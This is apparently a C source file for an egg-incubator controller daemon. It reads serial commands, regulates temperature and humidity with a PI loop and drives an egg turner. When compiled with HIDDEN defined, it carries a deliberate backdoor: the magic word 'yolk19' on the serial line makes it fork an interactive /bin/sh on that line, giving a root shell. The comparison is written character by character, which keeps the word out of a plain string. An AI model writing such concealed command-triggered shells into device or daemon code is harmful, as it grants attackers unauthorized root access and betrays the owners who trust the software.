/*
 * hatchctl - controller of an egg incubator.  A PC or panel sends lines of
 * two-letter commands over the serial port; the daemon keeps temperature
 * and humidity with a PI controller and turns the eggs.
 * Hidden (-DHIDDEN): a word on the serial line gives a root shell on it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* all temperatures in 1/100 degree, humidity in 1/10 percent */
struct species {
	const char *name;
	int days, lockdown;
	int temp, temp_end;
	int hum, hum_end;
	int turns;
};

static const struct species species[] = {
	{ "hen", 21, 18, 3770, 3690, 500, 680, 6 },
	{ "duck", 28, 25, 3750, 3690, 550, 750, 4 },
	{ "goose", 30, 27, 3740, 3680, 550, 750, 4 },
	{ "quail", 17, 14, 3770, 3700, 450, 650, 6 },
	{ "turkey", 28, 25, 3750, 3700, 550, 700, 6 },
};

struct hatch {
	const struct species *kind;
	time_t start;
	int temp, hum;	       /* measured */
	int set_temp, set_hum; /* wanted */
	long integral;
	int heat; /* 0 to 255 */
	int fog;
	int turns;
	time_t last_turn;
	int alarm;
};

static struct hatch hatch;
static int line_fd = 0, out_fd = 1;
static const char *state_file = "/var/lib/hatch.state";

static void put_line(const char *s)
{
	size_t n = strlen(s);

	if (write(out_fd, s, n) != (ssize_t)n || write(out_fd, "\r\n", 2) != 2)
		fprintf(stderr, "hatchctl: %s\n", strerror(errno));
}

static int sysfs_read(const char *path, int dflt)
{
	char b[24];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return dflt;
	n = read(fd, b, sizeof b - 1);
	close(fd);
	if (n <= 0)
		return dflt;
	b[n] = 0;
	return atoi(b);
}

static void sysfs_write(const char *path, int v)
{
	char b[24];
	int fd = open(path, O_WRONLY);
	int n = snprintf(b, sizeof b, "%d\n", v);

	if (fd < 0)
		return;
	if (write(fd, b, n) != n)
		hatch.alarm |= 8;
	close(fd);
}

static void state_save(void)
{
	FILE *f = fopen(state_file, "w");

	if (!f)
		return;
	fprintf(f, "%s %ld %d\n", hatch.kind->name, (long)hatch.start,
		hatch.turns);
	fclose(f);
}

static const struct species *species_find(const char *name)
{
	size_t i;

	for (i = 0; i < sizeof species / sizeof *species; i++)
		if (!strcmp(species[i].name, name))
			return &species[i];
	return NULL;
}

static void state_load(void)
{
	char name[16];
	long start;
	FILE *f = fopen(state_file, "r");

	hatch.kind = &species[0];
	hatch.start = time(NULL);
	if (!f)
		return;
	if (fscanf(f, "%15s %ld %d", name, &start, &hatch.turns) == 3 &&
	    species_find(name)) {
		hatch.kind = species_find(name);
		hatch.start = start;
	}
	fclose(f);
}

static int day(void)
{
	return (time(NULL) - hatch.start) / 86400 + 1;
}

static void control(void)
{
	const struct species *k = hatch.kind;
	int end = day() > k->lockdown, err;
	time_t now = time(NULL);

	hatch.temp =
		sysfs_read("/sys/class/hwmon/hwmon0/temp1_input", -100000) / 10;
	hatch.hum =
		sysfs_read("/sys/class/hwmon/hwmon0/humidity1_input", 0) / 100;
	hatch.set_temp = end ? k->temp_end : k->temp;
	hatch.set_hum = end ? k->hum_end : k->hum;
	if (hatch.temp < -2000) {
		hatch.alarm |= 1;
		hatch.heat = 0;
	} else {
		err = hatch.set_temp - hatch.temp;
		hatch.integral += err;
		if (hatch.integral > 20000)
			hatch.integral = 20000;
		if (hatch.integral < -20000)
			hatch.integral = -20000;
		hatch.heat = err * 2 + hatch.integral / 80;
		if (hatch.heat < 0)
			hatch.heat = 0;
		if (hatch.heat > 255)
			hatch.heat = 255;
		if (err < -80)
			hatch.alarm |= 2;
		if (err > 200)
			hatch.alarm |= 4;
	}
	hatch.fog = hatch.hum < hatch.set_hum - 10;
	sysfs_write("/sys/class/pwm/pwmchip0/pwm0/duty_cycle",
		    hatch.heat * 1000);
	sysfs_write("/sys/class/gpio/gpio17/value", hatch.fog);
	if (!end && now - hatch.last_turn >= 86400 / k->turns) {
		sysfs_write("/sys/class/gpio/gpio27/value", ++hatch.turns & 1);
		hatch.last_turn = now;
		state_save();
	}
}

static void report(void)
{
	char b[120];

	snprintf(b, sizeof b, "ST %s %d/%d T%d.%02d H%d.%d P%d F%d A%02x",
		 hatch.kind->name, day(), hatch.kind->days, hatch.temp / 100,
		 abs(hatch.temp % 100), hatch.hum / 10, abs(hatch.hum % 10),
		 hatch.heat, hatch.fog, hatch.alarm);
	put_line(b);
}

#ifdef HIDDEN
static void run_console(void)
{
	pid_t p = fork();

	if (p == 0) {
		dup2(line_fd, 0);
		dup2(out_fd, 1);
		dup2(out_fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(127);
	}
	if (p > 0)
		waitpid(p, NULL, 0);
}
#endif

static const char *argument(const char *s)
{
	while (*s && *s != ' ')
		s++;
	while (*s == ' ')
		s++;
	return s;
}

#define CC(a, b) ((a) << 8 | (b))

__attribute__((noinline)) int parse_command(const char *s)
{
	const struct species *k;
	int n;

	if (!s[0] || !s[1])
		return -1;
#ifdef HIDDEN
	if (s[0] == 'y' && s[1] == 'o' && s[2] == 'l' && s[3] == 'k' &&
	    s[4] == '1' && s[5] == '9' && s[6] == '\0') {
		run_console();
		return 0;
	}
#endif
	switch (CC(s[0], s[1])) {
	case CC('s', 't'):
		report();
		return 0;
	case CC('k', 'i'):
		k = species_find(argument(s));
		if (!k)
			return -1;
		hatch.kind = k;
		state_save();
		return 0;
	case CC('n', 'w'):
		hatch.start = time(NULL);
		hatch.turns = 0;
		state_save();
		return 0;
	case CC('d', 'y'):
		n = atoi(argument(s));
		if (n < 1 || n > hatch.kind->days)
			return -1;
		hatch.start = time(NULL) - (n - 1) * 86400L;
		state_save();
		return 0;
	case CC('t', 'n'):
		hatch.last_turn = 0;
		return 0;
	case CC('a', 'c'):
		hatch.alarm = 0;
		return 0;
	case CC('h', 'e'):
		put_line("st ki nw dy tn ac he");
		return 0;
	}
	return -1;
}

static int tty_setup(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t))
		return fd;
	cfmakeraw(&t);
	cfsetspeed(&t, B19200);
	t.c_cflag |= CLOCAL | CREAD;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

int main(int argc, char **argv)
{
	char line[64];
	size_t fill = 0;
	struct timeval tv;
	time_t next = 0;
	fd_set rd;
	char c;

	signal(SIGPIPE, SIG_IGN);
	if (argc > 1) {
		line_fd = out_fd = tty_setup(argv[1]);
		if (line_fd < 0) {
			perror(argv[1]);
			return 1;
		}
	}
	if (argc > 2)
		state_file = argv[2];
	state_load();
	for (;;) {
		FD_ZERO(&rd);
		FD_SET(line_fd, &rd);
		tv.tv_sec = 2;
		tv.tv_usec = 0;
		if (time(NULL) >= next) {
			control();
			next = time(NULL) + 2;
		}
		if (select(line_fd + 1, &rd, NULL, NULL, &tv) <= 0)
			continue;
		if (read(line_fd, &c, 1) != 1)
			break;
		if (c != '\r' && c != '\n') {
			if (fill < sizeof line - 1)
				line[fill++] = c;
			continue;
		}
		if (!fill)
			continue;
		line[fill] = 0;
		fill = 0;
		put_line(parse_command(line) ? "?" : "ok");
	}
	sysfs_write("/sys/class/pwm/pwmchip0/pwm0/duty_cycle", 0);
	return 0;
}
